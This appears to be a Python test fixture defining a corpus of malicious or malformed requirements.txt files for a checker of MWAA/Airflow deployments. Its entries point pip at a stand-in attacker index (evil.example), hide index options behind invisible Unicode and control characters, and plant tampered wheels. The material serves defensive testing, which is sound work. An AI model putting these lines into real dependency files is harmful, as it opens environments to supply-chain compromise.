"""Requirements files that must never reach an environment, and what has to be said about each."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.fakes.wheel_index import Wheel, wheel

if TYPE_CHECKING:
    from collections.abc import Mapping

SHA = "sha256:" + "a" * 64
HASH = f"--hash={SHA}"
EVIL = "https://evil.example/simple"
HOUSE = "--no-index\n--find-links /usr/local/airflow/plugins/wheels\n"
SOLO = wheel("solo", "1.0")
TAMPERED = Wheel(SOLO.file, SOLO.content + b"\n")
WINDOWS = wheel("solo", "1.0", tag="cp312-cp312-win_amd64")
ARM = wheel("solo", "1.0", tag="cp312-cp312-manylinux_2_17_aarch64")
OLD_PYTHON = wheel("solo", "1.0", tag="cp311-cp311-manylinux_2_17_x86_64")
NEW_GLIBC = wheel("solo", "1.0", tag="cp312-cp312-manylinux_2_39_x86_64")


@dataclass(frozen=True, slots=True)
class Attack:
    """A file and what has to be said about it."""

    text: str | bytes
    rule: str
    says: str
    wheels: tuple[Wheel, ...] = ()

    @property
    def files(self) -> dict[str, bytes]:
        """Its files by their path below the project's root."""
        text = self.text if isinstance(self.text, bytes) else self.text.encode()
        wheels = {f"plugins/wheels/{each.file}": each.content for each in self.wheels}
        return {"requirements/requirements.txt": text, **wheels}


def _house(
    *wheels: Wheel, pin: str = f"solo==1.0 {SOLO.hash}\n", rule: str = "wheelhouse", says: str
) -> Attack:
    return Attack(HOUSE + pin, f"requirements-{rule}", says, wheels)


def _sources(text: str, says: str) -> Attack:
    return Attack(text, "requirements-sources", says)


CORPUS: Mapping[str, Attack] = {
    # Where packages come from.
    "another index besides": _sources(
        f"--extra-index-url {EVIL}\n", "`--extra-index-url` lets another index"
    ),
    "with an equals sign": _sources(f"--extra-index-url={EVIL}\n", "`--extra-index-url` lets another index"),
    "abbreviated": _sources(f"--extra-i {EVIL}\n", "`--extra-i` lets another index"),
    "behind a tab": _sources(f"--extra-index-url\t{EVIL}\n", "`--extra-index-url` lets another index"),
    "over two lines": _sources(f"--extra-\\\nindex-url {EVIL}\n", "`--extra-index-url` lets another index"),
    "behind a harmless option": _sources(
        f"--no-index --extra-index-url {EVIL}\n", "`--extra-index-url` lets"
    ),
    "behind a shipped folder": _sources(
        f"--find-links /usr/local/airflow/plugins --extra-index-url {EVIL}\n", "`--extra-index-url` lets"
    ),
    "after an empty continued line": _sources(f"\\\n--extra-index-url {EVIL}\n", "`--extra-index-url` lets"),
    "another index instead": _sources(f"--index-url {EVIL}\n", "`--index-url` lets another index"),
    "its short form": _sources(f"-i {EVIL}\n", "`-i` lets another index"),
    "its short form without a space": _sources(f"-i{EVIL}\n", "`-i` lets another index"),
    "its old name": _sources(f"--pypi-url {EVIL}\n", "`--pypi-url` lets another index"),
    "an index without a certificate": _sources(
        "--trusted-host evil.example\n", "`--trusted-host` lets anybody"
    ),
    "a page of links": _sources(f"--find-links {EVIL}\n", "`--find-links` names a place outside"),
    "a folder that is not shipped": _sources("-f/tmp/wheels\n", "`-f` names a place outside"),
    "a way out of the shipped folder": _sources(
        "-f /usr/local/airflow/plugins/../../../../tmp\n", "`-f` names a place outside"
    ),
    "a way out in an address": _sources(
        "a @ file:///usr/local/airflow/plugins/%2e%2e/a-1-py3-none-any.whl\n", "`a` comes from an address"
    ),
    "pre-releases": _sources("--pre\n", "`--pre` lets pip take pre-releases"),
    "an address": _sources("https://evil.example/a-1-py3-none-any.whl\n", "comes from an address"),
    "an address in capitals": _sources(
        "HTTPS://evil.example/a-1-py3-none-any.whl\n", "comes from an address"
    ),
    "a name with an address": _sources("a @ https://evil.example/a.tar.gz\n", "`a` comes from an address"),
    "without spaces": _sources("a@https://evil.example/a.tar.gz\n", "`a` comes from an address"),
    "with extras": _sources("a[b]@https://evil.example/a.tar.gz\n", "`a` comes from an address"),
    "a repository": _sources("git+https://evil.example/a.git@v1\n", "comes from an address"),
    "a name with a repository": _sources(
        "a @ git+ssh://git@evil.example/a.git\n", "`a` comes from an address"
    ),
    "an editable address": _sources("-e git+https://evil.example/a.git#egg=a\n", "`-e` names a folder or"),
    "an editable folder": _sources("--editable=.\n", "`--editable` names a folder or"),
    "without a space": _sources("-e.\n", "`-e` names a folder or"),
    "a wheel beside": _sources("a-1.0-py3-none-any.whl\n", "comes from a path that MWAA does not have"),
    "a wheel in a folder": _sources(
        "wheels/a-1.0-py3-none-any.whl\n", "comes from a path that MWAA does not"
    ),
    "another file": _sources("-r other.txt\n", "`-r` names another file"),
    "another file without a space": _sources("-rother.txt\n", "`-r` names another file"),
    "another file, abbreviated": _sources("--requirem other.txt\n", "`--requirem` names another file"),
    "an option behind a requirement": _sources(
        f"a==1 --extra-index-url {EVIL}\n", "`--extra-index-url` stands behind a requirement"
    ),
    "settings of a build": _sources(
        "a==1 --config-settings=b=c\n", "`--config-settings` is for a package that MWAA would build"
    ),
    "settings of a build, in short": _sources(
        "a==1 -C b=c --hash=sha256:00\n", "`-C` is for a package that MWAA would build"
    ),
    "one setting of a build": _sources(
        "a==1 --config-setting b=c\n", "`--config-setting` is for a package that MWAA would build"
    ),
    "an option of a build": _sources(
        "a==1 --global-option=-q\n", "`--global-option` is for a package that MWAA would build"
    ),
    "settings of a build behind no requirement": _sources(
        "--config-settings=b=c\n", "`--config-settings` is nothing that pip takes in a file like this"
    ),
    "an option that pip does not know": _sources("--nonsense\n", "`--nonsense` is nothing that"),
    "a word without a dash behind an option": _sources("--no-index evil\n", "`evil` is nothing that"),
    "constraints from an address": _sources(f"-c {EVIL}\n", "`-c` names a place outside the environment"),
    "constraints that are not there": _sources(
        "--constraint /usr/local/airflow/dags/none.txt\n", "names `dags/none.txt`, which is not there"
    ),
    "a variable": Attack("${EVIL}\n", "requirements-readable", "`${EVIL}` stands for whatever"),
    "a variable in an address": Attack(
        "--index-url https://${HOST}/simple\n", "requirements-readable", "`${HOST}` stands for whatever"
    ),
    # Constraints that are switched off.
    "a comment that is no constraint": Attack(
        "# -c x\na==1\n", "requirements-constraints", "the comment switches off MWAA's constraints"
    ),
    "its long form": Attack("# --constraint x\n", "requirements-constraints", "the comment switches off"),
    "behind a pin": Attack("a==1  # via -c x.txt\n", "requirements-constraints", "the comment switches off"),
    "a name that ends like it": Attack("a-c ==1.0\n", "requirements-constraints", "the line switches off"),
    "a path that ends like it": Attack(
        "--find-links /usr/local/airflow/plugins/x-c --no-index\n",
        "requirements-constraints",
        "the line switches",
    ),
    # Versions and hashes.
    "no version": Attack("solo\n", "requirements-pinned", "`solo` is not pinned"),
    "a lower bound": Attack("solo>=1\n", "requirements-pinned", "`solo` is not pinned"),
    "any patch": Attack("solo==1.*\n", "requirements-pinned", "`solo` is not pinned"),
    "any patch, spelt as is": Attack("solo===1.*\n", "requirements-pinned", "`solo` is not pinned"),
    "two bounds": Attack("solo==1.0,<3\n", "requirements-pinned", "`solo` is not pinned"),
    "a version with a comment stuck to it": Attack(
        "solo==1.0#x\n", "requirements-readable", "pip cannot read"
    ),
    "a tab before the hash": Attack(f"solo==1.0\t{HASH}\n", "requirements-readable", "pip cannot read"),
    "a backslash with a space": Attack(
        f"solo==1.0 \\ \n{HASH}\n", "requirements-readable", "pip cannot read"
    ),
    "two words": Attack("haver sine==1.0\n", "requirements-readable", "pip cannot read `haver sine==1.0`"),
    "one equals sign": Attack("solo=1.0\n", "requirements-readable", "pip cannot read `solo=1.0`"),
    "a quotation mark alone": Attack("--find-links '/usr\n", "requirements-readable", "pip cannot read"),
    "a line without hash among others": Attack(
        f"solo==1.0 {HASH}\npair==1.0\n",
        "requirements-hashes",
        "`pair==1.0` has no hash and other lines have",
    ),
    "no hash where they are asked for": Attack(
        "--require-hashes\nsolo==1.0\n", "requirements-hashes", "`solo==1.0` has no hash"
    ),
    "a weak hash": Attack(
        f"solo==1.0 --hash=md5:{'a' * 32}\n", "requirements-hashes", f"`md5:{'a' * 32}` is no hash"
    ),
    "half a hash": Attack("solo==1.0 --hash=sha256:abc\n", "requirements-hashes", "`sha256:abc` is no hash"),
    "a hash that a comment cuts off": _sources(
        f"solo==1.0 \\\n# why\n{HASH}\n", "`--hash` belongs to no requirement"
    ),
    "two versions": Attack(
        "solo==1.0\nSolo==2.0\n", "requirements-twice", "`solo` stands in line 1 already, with `==1.0`"
    ),
    "two hashes": Attack(
        f"solo==1.0 {HASH}\nsolo==1.0 {HASH.replace('a', 'b', 1)[:-1]}b\n",
        "requirements-twice",
        "other hashes",
    ),
    # What does not fit beside Airflow.
    "another version of an essential package": Attack(
        "celery==5.0.0\n", "requirements-essential", "`celery==5.0.0` contradicts MWAA, which keeps 5.6.3"
    ),
    "spelt as is": Attack("celery===5.0.0\n", "requirements-essential", "`celery==5.0.0` contradicts MWAA"),
    "with extras and another spelling": Attack(
        "Apache_Airflow[celery]==3.2.1\n", "requirements-essential", "`apache-airflow==3.2.1` contradicts"
    ),
    "another version than the constraints": Attack(
        "pandas==2.2.0\n", "requirements-constrained", "`pandas==2.2.0` contradicts the constraints"
    ),
    # Bytes that people and pip read differently.
    "a byte order mark": Attack(
        b"\xef\xbb\xbfa==1\n", "requirements-encoding", "begins with a byte order mark"
    ),
    "UTF-16": Attack("a==1\n".encode("utf-16"), "requirements-encoding", "begins with a byte order mark"),
    "UTF-16 without a mark": Attack(
        "a==1\n".encode("utf-16-le"), "requirements-encoding", "has the character U+0000"
    ),
    "UTF-32": Attack("a==1\n".encode("utf-32"), "requirements-encoding", "begins with a byte order mark"),
    "Latin-1": Attack(b"a==1 # caf\xe9\n", "requirements-encoding", "is not UTF-8: byte 10 is 0xe9"),
    "a declared encoding": Attack(
        "# -*- coding: utf-7 -*-\na==1\n", "requirements-encoding", "declares the encoding `utf-7`"
    ),
    "an unseen line end": Attack(
        f"a==1 # x\u2028--extra-index-url {EVIL}\n", "requirements-encoding", "has the character U+2028"
    ),
    "a form feed": Attack(f"a==1 # x\x0c-i {EVIL}\n", "requirements-encoding", "has the character U+000C"),
    "a carriage return alone": Attack(
        f"a==1 # x\r-i {EVIL}\n", "requirements-encoding", "has the character U+000D"
    ),
    "text that turns around": Attack("a==1 # \u202e\n", "requirements-encoding", "has the character U+202E"),
    # Wheels in plugins/.
    "no wheel": _house(says="`solo==1.0` has no wheel in plugins/"),
    "a tampered wheel": _house(TAMPERED, says="is not what was locked for `solo==1.0`: its SHA-256 is"),
    "a wheel for Windows": _house(
        WINDOWS, pin=f"solo==1.0 {WINDOWS.hash}\n", says="is not for Linux on x86_64 and Python 3.12"
    ),
    "a wheel for ARM": _house(ARM, pin=f"solo==1.0 {ARM.hash}\n", says="is not for Linux on x86_64"),
    "a wheel for another Python": _house(
        OLD_PYTHON, pin=f"solo==1.0 {OLD_PYTHON.hash}\n", says="is not for Linux on x86_64 and Python 3.12"
    ),
    "a wheel for a newer system": _house(
        NEW_GLIBC, pin=f"solo==1.0 {NEW_GLIBC.hash}\n", says="is not for Linux on x86_64"
    ),
    "a wheel of another version": _house(wheel("solo", "1.1"), says="`solo==1.0` has no wheel in plugins/"),
    "a wheel too many": _house(SOLO, wheel("evil", "1.0"), says="no line of requirements.txt asks for this"),
    "a second wheel for a line": _house(SOLO, WINDOWS, says="pip never takes this wheel"),
    "a file that is named and not there": Attack(
        "/usr/local/airflow/plugins/a-1.0-py3-none-any.whl\n",
        "requirements-wheelhouse",
        "`plugins/a-1.0-py3-none-any.whl` is not there",
    ),
}
